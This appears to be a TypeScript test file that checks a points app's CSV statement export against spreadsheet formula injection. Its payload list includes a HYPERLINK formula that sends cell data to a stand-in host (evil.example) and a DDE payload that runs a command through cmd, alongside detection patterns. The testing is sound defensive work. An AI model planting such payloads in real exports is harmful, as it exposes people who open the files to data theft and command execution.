import { describe, expect, test } from "bun:test";
import { creditPoints } from "#server/modules/points/index.ts";
import { csvLine } from "#shared/rules/lines.ts";
import { asSite } from "#tests/support/context.ts";
import { appWithPeople } from "#tests/support/people.ts";

const SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠"];
const PAYLOADS = SIGNS.flatMap((sign) => [
  `${sign}1+1`,
  `  ${sign}1+1`,
  `\u00a0${sign}1+1`,
  `\u3000${sign}1+1`,
  `x;${sign}1+1;y`,
  `x; ${sign}1+1;y`,
  `x|${sign}1+1|y`,
  `"${sign}1+1`,
  `","${sign}1+1","`,
  `";"${sign}1+1";"`,
  `'${sign}1+1`,
]).concat(`=HYPERLINK("https://evil.example?"&A1,"Click")`, `=cmd|'/c calc'!A0`);
/** These cannot stand in one line of text, which every stored text that is exported is. */
const BREAKS = SIGNS.flatMap((sign) => [
  `\t${sign}1+1`,
  `x\t${sign}1+1\ty`,
  `x\r\n${sign}1+1\r\ny`,
  `\r${sign}1+1`,
  `x\n${sign}1+1`,
]);

/** Cells as RFC 4180 has them: quotes protect separators and ends of lines. */
const cellsOf = (csv: string): string[] =>
  [...csv.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(
    ([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? "",
  );

/** Cells as a program has them that was set to another separator: quotes protect nothing. */
const misreadCells = (csv: string, separator: string): string[] =>
  csv.split(/\r\n|\r|\n/).flatMap((line) => line.split(separator));

const startsFormula = (cell: string): boolean =>
  /^[\s\ufeff"]*[=+\-@＝＋－＠]/u.test(cell) && !/^-?\d+$/.test(cell);

const formulasIn = (csv: string): string[] => [
  ...cellsOf(csv).filter((cell) => /^\s*[=+\-@＝＋－＠]/u.test(cell) && !/^-?\d+$/.test(cell)),
  ...[";", "|", "\t"].flatMap((separator) => misreadCells(csv, separator).filter(startsFormula)),
];

test("the check itself sees a formula where there is one", () => {
  expect(formulasIn('"a","=1+1"\r\n')).not.toEqual([]);
  expect(formulasIn('"a","x;=1+1;y"\r\n')).not.toEqual([]);
  expect(formulasIn('"a","fine",-5\r\n')).toEqual([]);
});

test.each([...PAYLOADS, ...BREAKS])("a cell cannot make a spreadsheet calculate: %p", (payload) => {
  const line = csvLine(["2026-03-01", payload, -5, payload]);
  expect(formulasIn(line)).toEqual([]);
  expect(line).toEndWith("\r\n");
});

describe("whoever opens the statement of points in a spreadsheet", () => {
  test("cannot be made to calculate what a plugin or an Admin wrote as a reason", async () => {
    const { app, member, admin } = await appWithPeople();
    for (const [index, reason] of PAYLOADS.entries())
      await creditPoints(asSite(app.deps), {
        userId: member.id,
        kind: "spend",
        delta: -1,
        reason,
        reference: `test:${index}`,
        actorId: null,
      });
    for (const [who, query] of [
      [member, ""],
      [admin, `?userId=${member.id}`],
    ] as const) {
      const response = await who.ask("GET", `/api/userprofile/points.csv${query}`);
      expect(response.headers.get("content-type")).toStartWith("text/csv");
      expect(response.headers.get("content-disposition")).toStartWith("attachment");
      expect(response.headers.get("x-content-type-options")).toBe("nosniff");
      const csv = await response.text();
      expect(cellsOf(csv.trimEnd())).toHaveLength(5 * (PAYLOADS.length + 1));
      expect(formulasIn(csv)).toEqual([]);
    }
  });

  test("reads every reason as it was written, but for the sign that makes it text", async () => {
    const reasons = ['Said "hello", and left', "Ünïcode 🐺", "a - b = c", "50 %", "x; y"];
    expect(cellsOf(csvLine(reasons).trimEnd())).toEqual(reasons);
  });
});
